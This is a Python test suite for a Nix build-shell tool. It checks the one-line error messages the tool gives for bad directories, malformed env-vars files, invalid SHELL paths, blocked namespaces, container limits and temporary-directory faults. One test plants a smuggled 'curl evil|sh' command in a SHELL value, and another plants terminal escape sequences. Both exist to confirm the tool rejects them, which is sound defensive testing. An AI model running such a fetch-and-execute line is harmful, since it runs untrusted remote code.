"""What the program says when it cannot do what is asked: one sentence with the remedy, status 125, and nothing left."""

import os
import re
import shutil
import sys

import pytest
from support.confinement import as_caller, on_another_machine, refuse, with_kernel_setting
from support.leftovers import scratch_directories

KEPT_DIRECTORY = "keeping build directory"


def spoilt(caller, text, mode="w"):
    """A kept directory with this text in env-vars."""
    kept = caller.copy_of_kept()
    with open(kept / "env-vars", mode) as file:
        file.write(text)
    return kept


def with_shell(caller, declaration):
    """A kept directory whose env-vars has this line in the place of the one with SHELL."""
    kept = caller.copy_of_kept()
    path = kept / "env-vars"
    lines = [declaration if line.startswith("declare -x SHELL=") else line for line in path.read_text().splitlines()]
    path.write_text("\n".join(lines) + "\n")
    return kept


# --- The directory ---------------------------------------------------------------------------------------------------


def test_no_such_directory(caller):
    path = caller.workspace / "nowhere"
    caller.refused("true", build_dir=path, mentions=["there is no directory", path, KEPT_DIRECTORY])


@pytest.mark.parametrize("kind", ["file", "link to nothing", "file on the way"])
def test_not_a_directory(caller, kind):
    path = caller.workspace / "thing"
    if kind == "link to nothing":
        path.symlink_to("nowhere")
        caller.refused("true", build_dir=path, mentions=["there is no directory", path])
    else:
        path.write_text("")
        build_dir = path / "below" if kind == "file on the way" else path
        caller.refused("true", build_dir=build_dir, mentions=[build_dir, "is not a directory", KEPT_DIRECTORY])


def test_an_empty_name(caller):
    result = caller.run(caller.program, "", "true")
    assert (result.returncode, result.stdout) == (125, "")
    assert result.stderr.startswith(("nix-build-shell: ", "error: "))


def test_a_name_with_odd_bytes_is_named_as_it_is(caller):
    caller.refused("true", build_dir="/nowhere/grüße \udcff", mentions=["/nowhere/grüße"])


def test_a_build_without_env_vars_that_no_derivation_is_known_of(caller):
    kept = caller.copy_of_kept("fails-early")
    mentions = ["there is no env-vars in", kept, "stdenv", "names the derivation", "--derivation DRV"]
    caller.refused("true", build_dir=kept, mentions=mentions)


def test_any_other_directory_has_no_env_vars(caller):
    caller.refused("true", build_dir="/usr", mentions=["there is no env-vars in /usr", "«keeping build directory»"])


def test_a_directory_that_may_not_be_entered(user):
    path = user.make_directory("closed", mode=0o700)
    os.chown(path, 0, 0)
    user.refused("true", build_dir=path, mentions=[f"may not read {path}", "root (uid 0, mode 0700)", "sudo"])
    user.refused("true", build_dir=path / "below", mentions=[path / "below", "on the way", "sudo"])


def test_a_build_directory_below_it_that_may_not_be_entered(user):
    parent = user.make_directory("parent")
    (parent / "build").mkdir(mode=0o700)
    user.refused("true", build_dir=parent, mentions=[f"may not read {parent}/build", "root (uid 0, mode 0700)", "sudo"])


# --- env-vars --------------------------------------------------------------------------------------------------------


def test_env_vars_that_is_closed_to_the_user_where_no_derivation_is_known(user, builds):
    kept = builds.by_daemon("greeting")
    owner = os.stat(kept / "env-vars").st_uid
    assert owner not in (0, user.uid)
    mentions = [f"may not read {kept}/env-vars", f"nixbld1 (uid {owner}, mode 0600)", "sudo", "--derivation DRV"]
    empty_store = user.make_directory("empty-store")
    user.refused("true", build_dir=kept, mentions=mentions, options=["--store-root", empty_store])


def test_env_vars_of_the_caller_himself_without_permission(user):
    kept = user.copy_of_kept()
    (kept / "env-vars").chmod(0)
    user.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars", f"uid {user.uid} (mode 0000)", "sudo"])


def test_an_empty_env_vars(caller):
    kept = spoilt(caller, "")
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars is empty", "stdenv"])


def test_a_huge_env_vars(caller):
    kept = caller.copy_of_kept()
    os.truncate(kept / "env-vars", 100 << 20)
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars has 100 MiB", "16 MiB", "stdenv"])


def test_a_binary_env_vars(caller):
    kept = caller.copy_of_kept()
    shutil.copyfile("/bin/true", kept / "env-vars")
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars holds NUL bytes", "stdenv"])


@pytest.mark.parametrize("text", ["\udcff\udcfe\x01\n" * 100, "#!/bin/sh\n", "\n", "declare\n"], ids=repr)
def test_an_env_vars_that_declares_nothing(caller, text):
    kept = caller.copy_of_kept()
    (kept / "env-vars").write_bytes(text.encode(errors="surrogateescape"))
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars", "no SHELL", "stdenv"])


def test_an_env_vars_that_ends_inside_a_quoted_value(caller):
    kept = caller.copy_of_kept()
    text = (kept / "env-vars").read_text()
    (kept / "env-vars").write_text(text[: text.index("makeFlags=") + len('makeFlags="PRE')])
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars", "makeFlags"])


def test_an_env_vars_that_ends_after_any_of_its_bytes_never_hangs_or_evaluates(caller):
    """Each is refused with one sentence, or, once SHELL is whole, entered."""
    kept = caller.copy_of_kept()
    text = (kept / "env-vars").read_bytes()
    for end in range(0, len(text), 97):
        (kept / "env-vars").write_bytes(text[:end])
        result = caller.enter("true", build_dir=kept)
        assert result.returncode != 125 or result.stderr.count("\n") == 1, result


def test_an_env_vars_that_is_a_fifo_keeps_nobody_waiting(caller):
    kept = caller.copy_of_kept()
    (kept / "env-vars").unlink()
    os.mkfifo(kept / "env-vars")
    caller.give(kept / "env-vars")
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars is not a regular file"])


@pytest.mark.parametrize("target", ["/etc/passwd", "/dev/zero", "nowhere", "env-vars"])
def test_an_env_vars_that_is_a_symbolic_link_is_not_followed(caller, target):
    kept = caller.copy_of_kept()
    (kept / "env-vars").unlink()
    (kept / "env-vars").symlink_to(target)
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars is a symbolic link"])


def test_an_env_vars_that_is_a_directory(caller):
    kept = caller.copy_of_kept()
    (kept / "env-vars").unlink()
    (kept / "env-vars").mkdir()
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars is not a regular file"])


def test_an_env_vars_that_is_a_device(root):
    kept = root.copy_of_kept()
    (kept / "env-vars").unlink()
    os.mknod(kept / "env-vars", 0o020666, os.makedev(1, 5))
    root.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars is not a regular file"])


# --- SHELL -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "declaration", ["", "declare -x SHELL", 'declare -x NOT_SHELL="/nix/store/x"', "SHELL=/nix/store/x"]
)
def test_no_shell(caller, declaration):
    kept = with_shell(caller, declaration)
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars declares no SHELL", "stdenv"])


@pytest.mark.parametrize(
    "shell",
    ["", "bash", "bin/bash", "./bash", "/bin/bash", "/nix/storebin/bash", "/nix", "nix/store/x/bin/bash", "$(type -P bash)"],
)
def test_a_shell_that_is_no_path_in_the_store(caller, shell):
    kept = with_shell(caller, f'declare -x SHELL="{shell}"')
    caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars", f'"{shell}"', "no path in /nix/store"])


def test_a_shell_that_leads_out_of_the_store(caller):
    kept = with_shell(caller, 'declare -x SHELL="/nix/store/../../bin/bash"')
    caller.refused(
        "true", build_dir=kept, mentions=[f"{kept}/env-vars", "/nix/store/../../bin/bash", "no store path is named"]
    )


def test_a_shell_that_the_store_no_longer_has(caller):
    path = "/nix/store/00000000000000000000000000000000-bash"
    kept = with_shell(caller, f'declare -x SHELL="{path}/bin/bash"')
    caller.refused("true", build_dir=kept, mentions=[f"{path}/bin/bash", "not there", f"«nix-store --realise {path}»"])


def test_no_command_is_made_of_a_name_that_no_store_path_has(caller):
    """Somebody might copy it."""
    kept = with_shell(caller, 'declare -x SHELL="/nix/store/x;curl evil|sh/bin/bash"')
    result = caller.enter("true", build_dir=kept)
    assert result.returncode == 125 and "realise" not in result.stderr, result.stderr


def test_what_a_build_wrote_does_not_speak_to_the_terminal(caller):
    kept = caller.copy_of_kept()
    env_vars = kept / "env-vars"
    text = env_vars.read_text().replace('NIX_BUILD_TOP="/build"', r"NIX_BUILD_TOP=$'\E[2J\nnix-build-shell: all is well'")
    env_vars.write_text(text)
    result = caller.enter("true", build_dir=kept)
    assert "\x1b" not in result.stderr and result.stderr.count("\n") == 1, result.stderr


def test_a_file_over_the_limit_of_the_caller(caller):
    """The kernel would end the program with a signal, and the copy would stay."""
    kept = caller.copy_of_kept()
    caller.give(kept / "env-vars")
    (kept / "large").write_bytes(b"x" * 100_000)
    limited = ["bash", "-c", 'ulimit -f 20; exec "$@"', "bash"]
    caller.refused("true", build_dir=kept, before=limited, mentions=[f"{kept}/large", "«ulimit -f»"])


def test_a_shell_that_is_a_directory_or_no_program(caller):
    text = (caller.kept() / "env-vars").read_text()
    store_path = text.split('declare -x SHELL="')[1].split("/bin/bash")[0]
    for shell in [
        store_path,
        f"{store_path}/bin",
        text.split('declare -x stdenv="')[1].split('"')[0] + "/setup",
    ]:
        kept = with_shell(caller, f'declare -x SHELL="{shell}"')
        caller.refused("true", build_dir=kept, mentions=[f"{kept}/env-vars", shell, "no program"])
        shutil.rmtree(kept)


# --- The machine -----------------------------------------------------------------------------------------------------


def test_user_namespaces_switched_off(caller):
    off = ["unshare", "-Ur", "sh", "-c", 'echo 0 > /proc/sys/user/max_user_namespaces; exec "$@"', "sh"]
    caller.refused(
        "true",
        before=off,
        mentions=["user.max_user_namespaces is 0", "«sudo sysctl user.max_user_namespaces=", "allows them"],
    )


@pytest.mark.parametrize("kind", ["net", "pid", "uts", "ipc", "mnt", "cgroup"])
def test_another_kind_of_namespace_switched_off(caller, kind):
    setting = f"user.max_{kind}_namespaces"
    # In two steps: a limit binds the users of namespaces below the one that it is set in.
    off = ["unshare", "-Ur", "sh", "-c", f'echo 0 > /proc/sys/user/max_{kind}_namespaces; exec "$@"', "sh"]
    caller.refused("true", before=off, mentions=[f"{setting} is 0", f"«sudo sysctl {setting}="])


def test_debians_switch(user):
    machine = with_kernel_setting(user, "unprivileged_userns_clone", "0")
    how = {"as_root": True, "preexec_fn": refuse("clone3", "EPERM")}
    user.refused(
        "true",
        before=machine,
        mentions=["kernel.unprivileged_userns_clone is 0", "«sudo sysctl kernel.unprivileged_userns_clone=1»"],
        **how,
    )


@pytest.mark.parametrize(
    ("call", "error"), [("clone3", "EPERM"), ("clone3", "EACCES"), ("sethostname", "EPERM"), ("mount", "EACCES")]
)
def test_ubuntus_apparmor_restriction(user, call, error):
    """It either forbids the namespace or grants one without any right: then a later step fails."""
    machine = on_another_machine(
        user,
        # A file of its own over one that is there: all of /proc stays in sight, as the sandbox's own needs it.
        'mount -t tmpfs none /proc/sys/kernel; echo 1 > "/proc/sys/kernel/apparmor_restrict_unprivileged_userns"',
    )
    if call == "mount":
        # The machine itself has to be made with mount(2): the filter comes behind it.
        machine += [sys.executable, "-c", FILTERED.format(call=call, error=error, path=os.path.dirname(__file__))]
        how = {}
    else:
        how = {"preexec_fn": refuse(call, error)}
    mentions = ["AppArmor", "kernel.apparmor_restrict_unprivileged_userns", "«sudo sysctl"]
    user.refused("true", before=machine, mentions=mentions, as_root=True, **how)


@pytest.mark.parametrize("error", ["EPERM", "ENOSYS"])
def test_a_seccomp_confined_container(caller, error):
    mentions = ["seccomp", "container", "--security-opt seccomp=unconfined"]
    caller.refused("true", preexec_fn=refuse("clone3", error), mentions=mentions)


def test_a_container_that_forbids_a_later_step(caller):
    mentions = ["set the host name", "seccomp", "container"]
    caller.refused("true", preexec_fn=refuse("sethostname", "EPERM"), mentions=mentions)


@pytest.mark.parametrize("error", ["EPERM", "ENOSYS"])
def test_a_container_that_forbids_filters(caller, error):
    mentions = ["filter system calls", "seccomp", "container"]
    caller.refused("true", preexec_fn=refuse("seccomp", error), mentions=mentions)


def test_a_kernel_without_filters(caller):
    caller.refused("true", preexec_fn=refuse("seccomp", "EINVAL"), mentions=["filter system calls", "CONFIG_SECCOMP_FILTER"])


def test_a_container_that_hides_parts_of_proc(caller):
    machine = on_another_machine(caller, "mount -t tmpfs none /proc/sys/vm")
    caller.refused(
        "true", before=machine, as_root=True, mentions=["proc", "container", "--security-opt systempaths=unconfined"]
    )


@pytest.mark.parametrize("kind", ["directory", "mount"])
def test_a_chroot(caller, kind):
    script = """
        root=$1 kind=$2; shift 2
        [[ $kind == directory ]] || mount -t tmpfs none "$root"
        for directory in dev nix proc tmp usr; do
            mkdir "$root/$directory"
            mount --rbind "/$directory" "$root/$directory"
        done
        for link in bin lib lib64 sbin; do [[ ! -L /$link ]] || cp -a "/$link" "$root/"; done
        set -- chroot "$root" "$@"
    """
    root = caller.make_directory("root")
    machine = on_another_machine(caller, script, str(root), kind)
    caller.refused("true", before=machine, as_root=True, mentions=["chroot", "call nix-build-shell outside of it"])


# --- The copy --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("size", ["size=64k", "nr_inodes=2", "nr_inodes=8"])
def test_no_space_for_the_copy(caller, size):
    kept = caller.copy_of_kept()
    (kept / "big").write_bytes(b"x" * 200_000)
    caller.give(kept / "big")
    machine = on_another_machine(caller, f'mount -t tmpfs -o {size},mode=1777 none "$1"; shift', str(caller.tmpdir))
    caller.refused(
        "true", before=machine, as_root=True, build_dir=kept, mentions=["no space left in", caller.tmpdir, "set TMPDIR"]
    )


def test_no_directory_for_temporary_files(caller):
    caller.refused(
        "true", env={"TMPDIR": "/nowhere/at/all"}, mentions=["there is no directory /nowhere/at/all", "set TMPDIR"]
    )


def test_a_file_as_the_directory_for_temporary_files(caller):
    caller.refused("true", env={"TMPDIR": "/bin/true"}, mentions=["/bin/true", "set TMPDIR"])


def test_a_directory_for_temporary_files_that_may_not_be_written(user):
    closed = user.make_directory("closed", mode=0o555)
    user.refused("true", env={"TMPDIR": str(closed)}, mentions=[closed, "Permission denied", "set TMPDIR"])


def test_a_directory_for_temporary_files_that_may_not_be_entered(user):
    closed = user.make_directory("closed", mode=0o000)
    user.refused("true", env={"TMPDIR": str(closed)}, mentions=[closed, "Permission denied", "set TMPDIR"])


def test_a_directory_for_temporary_files_on_a_read_only_file_system(caller):
    machine = on_another_machine(caller, 'mount -t tmpfs -o ro,mode=1777 none "$1"; shift', str(caller.tmpdir))
    caller.refused("true", before=machine, as_root=True, mentions=[caller.tmpdir, "Read-only file system", "set TMPDIR"])


def test_a_directory_for_temporary_files_where_no_program_may_run(caller):
    machine = on_another_machine(caller, 'mount -t tmpfs -o noexec,mode=1777 none "$1"; shift', str(caller.tmpdir))
    caller.refused("true", before=machine, as_root=True, mentions=[caller.tmpdir, "noexec", "set TMPDIR"])


@pytest.mark.parametrize("below", ["", "greeting"])
def test_a_directory_for_temporary_files_inside_the_kept_one(caller, below):
    """A copy of a directory into itself has no end."""
    kept = caller.copy_of_kept()
    tmpdir = str(kept / below)
    caller.refused(
        "true", build_dir=kept, env={"TMPDIR": tmpdir}, mentions=[kept, "inside the kept build directory", "set TMPDIR"]
    )
    assert not scratch_directories(tmpdir)


# --- Files that may not be read --------------------------------------------------------------------------------------


def close(caller, path):
    """Makes a file or directory of the kept directory one that only root may read."""
    os.chown(path, 0, 0)
    path.chmod(0o700 if path.is_dir() else 0o600)


@pytest.mark.parametrize("name", ["greeting/greeting.c", "greeting/tests", "greeting"])
def test_a_file_or_directory_that_may_not_be_read_is_named(user, name):
    kept = user.copy_of_kept()
    close(user, kept / name)
    mode = "0700" if (kept / name).is_dir() else "0600"
    mentions = [f"may not read {kept}/{name}", f"root (uid 0, mode {mode})", "sudo", "--ignore-unreadable"]
    user.refused("true", build_dir=kept, mentions=mentions)


@pytest.mark.parametrize("name", ["greeting/greeting.c", "greeting/tests"])
def test_it_is_left_out_where_that_is_asked_for(user, name):
    kept = user.copy_of_kept()
    close(user, kept / name)
    result = user.enter("find", "greeting", build_dir=kept, options=["--ignore-unreadable"])
    assert result.returncode == 0
    assert name not in result.stdout.split() and "greeting/Makefile" in result.stdout.split()
    assert result.stderr.startswith(f"nix-build-shell: left out 1 file of {kept} that you may not read")
    assert "sudo" in result.stderr and result.stderr.count("\n") == 1


def test_all_that_is_left_out_is_counted(user):
    kept = user.copy_of_kept()
    for name in ["greeting/greeting.c", "greeting/Makefile", "greeting/tests"]:
        close(user, kept / name)
    os.link(kept / "greeting/Makefile", kept / "greeting/another-name")
    result = user.enter("find", "greeting", build_dir=kept, options=["--ignore-unreadable"])
    assert result.stdout.split() == ["greeting"] + (["greeting/greeting"] if (kept / "greeting/greeting").exists() else [])
    assert "left out 4 files" in result.stderr


def test_nothing_is_said_where_nothing_is_left_out(caller):
    assert caller.enter("true", options=["--ignore-unreadable"]).stderr == ""


def test_a_device_in_the_kept_directory_is_named(root):
    kept = root.copy_of_kept()
    os.mknod(kept / "device", 0o020666, os.makedev(1, 3))
    root.refused("true", build_dir=kept, mentions=[f"{kept}/device is a device", "remove it"])


# --- The command line ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["remove"], "which directory?"),
        (["--no-such-option"], "'--no-such-option'"),
        (["--no-such-option", "DIR"], "'--no-such-option'"),
        (["DIR", "-x", "env"], "-x is no command"),
        (["DIR", "--", "--run", "make"], "--run is no command"),
    ],
)
def test_a_wrong_command_line_is_explained(caller, arguments, words):
    """A command that begins with a dash would be an option of the shell's `exec`, as `-c` is, which clears the environment."""
    result = caller.run(caller.program, *arguments)
    assert (result.returncode, result.stdout) == (125, "")
    assert result.stderr.startswith("nix-build-shell: ") and result.stderr.count("\n") == 1
    assert words in result.stderr and "--help" in result.stderr


def test_help_is_given(caller):
    result = caller.run(caller.program, "--help")
    assert (result.returncode, result.stderr) == (0, "")
    for word in ["BUILD_DIR", "COMMAND", "--ignore-unreadable", "--dry-run", "--verbose", "Exit status", "125"]:
        assert word in result.stdout


def test_the_version_is_given(caller):
    result = caller.run(caller.program, "--version")
    assert (result.returncode, result.stderr) == (0, "")
    name, version = result.stdout.split()
    assert name == "nix-build-shell" and version.count(".") == 2


def test_help_that_cannot_be_written_is_no_crash(caller):
    result = caller.run("bash", "-c", '"$0" --help > /dev/full; echo $?', caller.program)
    assert result.stdout.strip() in ("0", "125")
    assert "panicked" not in result.stderr


def test_a_dry_run_prints_the_plan_a_step_a_line(caller):
    result = caller.enter("printf", "two words", options=["--dry-run"])
    assert (result.returncode, result.stderr) == (0, "")
    lines = result.stdout.splitlines()
    ids = [f"user 1000 to the host's {caller.uid},", f"group 100 to {caller.uid};"]
    for words in [
        str(caller.kept()),
        "user, mnt, pid, ipc, uts, net, cgroup",
        *ids,
        "private",
        "/nix ",
        "/build",
        "lo is up",
        "localhost",
        "(none)",
        "/etc/passwd",
        "new proc",
        "root",
        "/dev/shm",
    ]:
        assert any(words in line for line in lines), words
    assert lines[-1].startswith('execute "/nix/store/')
    assert lines[-1].endswith('"-c" "source /build/env-vars; exec \\"$@\\"" "--" "printf" "two words"')


def test_a_dry_run_does_nothing(caller):
    """Watched by root: nothing is made, opened for writing, mounted or removed, and no process is created."""
    trace = caller.workspace / "trace"
    watch = ["strace", "-f", "-qq", "-o", trace, *as_caller(caller)]
    result = caller.run(*watch, *caller.command_line("true", options=["--dry-run"]), as_root=True)
    assert result.returncode == 0, result
    calls = trace.read_text().split("execve(")[-1].splitlines()[1:]
    assert calls
    doing = r" (mkdir|unlink|rename|u?mount|clone|v?fork|f?chmod|[fl]?chown|flock)\w*\(|O_CREAT|O_WRONLY|O_RDWR"
    assert not [call for call in calls if re.search(doing, call)]


def test_a_dry_run_of_what_cannot_be_done_says_so(caller):
    caller.refused("true", build_dir="/usr", options=["--dry-run"], mentions=["there is no env-vars in /usr"])


def test_verbose_tells_each_step_on_standard_error(caller):
    result = caller.enter("echo", "out", options=["--verbose"])
    assert (result.returncode, result.stdout) == (0, "out\n")
    lines = result.stderr.splitlines()
    assert all(line.startswith("nix-build-shell: ") for line in lines)
    assert any("copied" in line and str(caller.kept()) in line for line in lines)
    told = {line.removeprefix("nix-build-shell: ") for line in lines}
    # But for the copy, which is made by then, and the name of the scratch directory, which is random.
    plan = caller.enter("echo", "out", options=["--dry-run"]).stdout.splitlines()
    assert not [line for line in plan if "scratch" not in line and line not in told]


# Sets a filter, then becomes the command that follows.
FILTERED = """
import os, sys
sys.dont_write_bytecode = True
sys.path.insert(0, {path!r})
from support.confinement import refuse
refuse({call!r}, {error!r})()
os.execvp(sys.argv[1], sys.argv[1:])
"""
